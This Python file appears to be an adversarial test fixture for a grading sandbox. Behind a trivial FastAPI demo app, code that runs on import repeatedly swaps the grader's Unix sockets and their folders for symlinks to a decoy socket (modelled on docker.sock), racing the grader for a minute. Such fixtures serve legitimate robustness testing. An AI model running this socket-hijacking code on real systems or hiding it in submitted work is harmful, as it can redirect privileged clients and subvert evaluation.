"""Point the grader at another Unix socket (think /var/run/docker.sock): every name by which the
grader might reach this server (its command line, the names of the sockets it holds, a socket
under /run, /var/run or /tmp of the test's root) is swapped for a symlink to the decoy named in
decoy.txt beside this file, and its folder for a link to the decoy's, once at the start and
again every half second while grading goes on (at most a minute). The lecture's ex1 is served
meanwhile. Other sockets found are only listed (the README's rule: destructive only inside the
test's root or on what the grader gave this server)."""

import contextlib
import os
import socket
import stat
import sys
import threading
import time
from pathlib import Path

from fastapi import FastAPI

DECOY = Path(__file__).with_name("decoy.txt").read_text().strip()
tried: dict[str, str] = {}


def socket_name(fd: int) -> str:
    """The name of the Unix socket open as ``fd`` ("" for anything else)."""
    copy = os.dup(fd)
    try:
        held = socket.socket(fileno=copy)
    except OSError:
        os.close(copy)
        return ""
    with held:
        name = held.getsockname()
    return name if isinstance(name, str) else ""


def names() -> set[str]:
    """The names the grader may reach this server by (and other sockets of the test's root)."""
    found = set()
    if "--uds" in sys.argv:
        found.add(sys.argv[sys.argv.index("--uds") + 1])
    for entry in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            name = socket_name(int(entry))
            if name:
                found.add(name)
    for top in ("/run", "/var/run", "/tmp"):
        for folder, _, files in os.walk(top):
            for file in files:
                path = os.path.join(folder, file)
                with contextlib.suppress(OSError):
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        seen.add(path)
                        if "hostile-root" in path and path != DECOY:
                            found.add(path)
    return found


seen: set[str] = set()


def swap(name: str) -> None:
    path = Path(name)
    swapped = path.with_name(f".{path.name}.swap")
    try:
        swapped.unlink(missing_ok=True)
        swapped.symlink_to(DECOY)
        os.replace(swapped, path)  # atomic, as an attacker racing the grader would
        tried[name] = "swapped"
    except OSError as error:
        tried[name] = f"{type(error).__name__}: {error.strerror}"
    with contextlib.suppress(OSError):  # the folder too: a link to the decoy's folder
        moved = path.parent.with_name(f".{path.parent.name}.moved")
        path.parent.rename(moved)
        path.parent.symlink_to(Path(DECOY).parent)
        tried[f"{path.parent}/"] = "swapped"


def again() -> None:
    ends = time.monotonic() + 60
    while time.monotonic() < ends:
        for name in names():
            swap(name)
        time.sleep(0.5)


for name in names():
    swap(name)
print("SWAPPED", sorted(tried.items()), "OTHER SOCKETS", sorted(seen), flush=True)
threading.Thread(target=again, daemon=True).start()

app = FastAPI()


@app.get("/")
async def root() -> dict[str, str]:
    return {"message": "Hello World"}


@app.get("/add")
async def add(x: int, y: int = 0) -> dict[str, int]:
    return {"result": x + y}


@app.get("/user/{user_id}")
async def user_id(user_id: int, name: str | None = None) -> dict[str, object]:
    res: dict[str, object] = {"user_id": user_id}
    if name is not None:
        res["name"] = name
    return res
